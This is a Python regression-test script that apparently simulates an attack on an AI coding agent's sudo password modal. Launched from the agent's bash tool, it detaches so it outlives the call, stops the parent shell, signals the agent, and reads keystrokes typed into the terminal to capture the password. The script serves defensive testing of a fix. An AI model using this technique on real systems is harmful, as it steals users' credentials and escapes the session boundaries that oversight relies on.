#!/usr/bin/env python3
"""Issue 18, attack 2, run from a bash tool call of real pi while its modal
is open: a detached process stops pi's parent shell (SIGSTOP), sends SIGNAL
to pi, then tries for SECONDS to open pi's terminal, reading whatever keys
it can. Before the fix, SIGTSTP made pi release the terminal and stop, and
the attacker read the password typed at the modal's image.

  signal_attack.py SIGNAL PI_PID WORK SECONDS [--no-shell-stop]

It detaches (setsid, double fork) so it outlives the tool call, waits until
sudo's askpass helper runs and the test has seen the modal (WORK/modal-seen,
written by the test: no fixed sleep), then writes WORK/signalled, and at the
end WORK/result (whole: written under another name, then renamed) with one
line per fact:
  open: EBUSY        every open of the terminal was refused
  open: OK           the terminal opened (keys read go to WORK/keys)
It never resumes what it stopped: the test plays the human who does.
"""
import os
import signal
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from terminal_attacks import detach, helper_running, stat_fields, tty_of  # noqa: E402


def main():
    sig = getattr(signal, sys.argv[1])
    pi = int(sys.argv[2])
    work = sys.argv[3]
    seconds = float(sys.argv[4])
    stop_shell = "--no-shell-stop" not in sys.argv
    if not detach():
        return
    tty = tty_of(pi)
    shell = int(stat_fields(pi)[1])
    deadline = time.monotonic() + 60
    while not helper_running() and time.monotonic() < deadline:
        time.sleep(0.05)
    # The modal is on screen once the test has seen it (no fixed sleep).
    while not os.path.exists(os.path.join(work, "modal-seen")) and time.monotonic() < deadline:
        time.sleep(0.02)
    if stop_shell:
        os.kill(shell, signal.SIGSTOP)
    os.kill(pi, sig)
    open(os.path.join(work, "signalled"), "w").close()
    end = time.monotonic() + seconds
    opened = None
    refused = 0
    keys = b""
    while time.monotonic() < end:
        if opened is None:
            try:
                opened = os.open(tty, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)
            except OSError:
                refused += 1
        if opened is not None:
            try:
                keys += os.read(opened, 4096)
            except OSError:
                pass
        time.sleep(0.02)
    with open(os.path.join(work, "keys"), "wb") as f:
        f.write(keys)
    # Written whole, then renamed: the test reads it once it exists, and an
    # empty file seen between the open and the write is no answer.
    with open(os.path.join(work, "result.tmp"), "w") as f:
        f.write("open: OK\n" if opened is not None else f"open: EBUSY ({refused} tries)\n")
    os.rename(os.path.join(work, "result.tmp"), os.path.join(work, "result"))
    os._exit(0)


if __name__ == "__main__":
    main()
